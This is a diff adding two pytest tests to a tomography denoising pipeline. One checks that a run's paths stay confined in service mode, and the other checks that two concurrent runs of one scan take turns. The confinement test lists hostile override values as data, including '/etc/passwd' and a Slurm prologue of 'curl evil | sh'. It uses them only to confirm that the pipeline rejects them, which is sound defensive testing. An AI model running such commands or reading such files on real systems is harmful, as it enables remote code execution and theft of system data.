@@ -109,3 +109,64 @@ def test_pipeline_refuses_a_scan_outside_the_input_roots(tiny_scan, tmp_path, mo
     assert cfg.train.epochs == 7 and cfg.train.patch_size == 16
     with pytest.raises(ValueError):
         resolve_config(cfg, None, {"train": {"epoch": 7}})
+
+
+def test_every_path_of_a_run_is_confined_in_service_mode(tiny_scan, tmp_path, monkeypatch):
+    from flows.pipeline import resolve_config
+    from tomodenoise.paths import PathNotAllowed
+
+    scan_dir = tiny_scan["scan"].parent
+    monkeypatch.setenv("TOMODENOISE_INPUT_ROOTS", str(scan_dir))
+    monkeypatch.setenv("TOMODENOISE_OUTPUT_ROOTS", str(tmp_path / "out"))
+    cfg = _cfg(tiny_scan["scan"], tmp_path / "out")
+    assert resolve_config(cfg, None, None).output.root == str((tmp_path / "out").resolve())
+    for overrides in ({"output": {"root": str(tmp_path / "elsewhere")}},
+                      {"input": {"angles_file": "/etc/passwd"}},
+                      {"train": {"resume": "/etc/passwd"}},
+                      {"compute": {"slurm": {"job_script_prologue": ["curl evil | sh"]}}},
+                      {"compute": {"address": "tcp://elsewhere:8786"}}):
+        with pytest.raises(PathNotAllowed):
+            resolve_config(cfg, None, overrides)
+
+
+def test_two_runs_of_one_scan_take_turns(tiny_scan, tmp_path):
+    """A repeated event or a watcher racing an API call: two processes run the same scan at once.
+
+    The second waits for the first (the per-store lock), so their stages never overlap.
+    """
+    import asyncio
+    import os
+    import subprocess
+    import sys
+
+    from prefect.client.orchestration import get_client
+    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterParentFlowRunId
+    from prefect.settings import PREFECT_API_URL
+
+    cfg = _cfg(tiny_scan["scan"], tmp_path / "out")
+    cfg.compute.cluster = "threads"
+    cfg_file = cfg.save(tmp_path / "run.yaml")
+    env = dict(os.environ, PREFECT_API_URL=PREFECT_API_URL.value())
+    cmd = [sys.executable, "-m", "tomodenoise.cli", "run", str(tiny_scan["scan"]), "--out", cfg.output.root,
+           "-c", str(cfg_file)]
+    procs = [subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+             for _ in range(2)]
+    errs = [p.communicate(timeout=300)[1] for p in procs]
+    assert [p.returncode for p in procs] == [0, 0], errs
+
+    async def spans():
+        async with get_client() as client:
+            roots = [r for r in await client.read_flow_runs(limit=200)
+                     if r.parent_task_run_id is None and (r.parameters.get("config") or {}).get("output", {}).get("root")
+                     == cfg.output.root]
+            out = []
+            for root in roots:
+                subs = await client.read_flow_runs(
+                    flow_run_filter=FlowRunFilter(parent_flow_run_id=FlowRunFilterParentFlowRunId(any_=[root.id])))
+                out.append((min(r.start_time for r in subs), max(r.end_time for r in subs)))
+            return out
+
+    found = asyncio.run(spans())
+    assert len(found) == 2, found
+    first, second = sorted(found)
+    assert second[0] >= first[1], f"the two runs' stages overlapped: {found}"
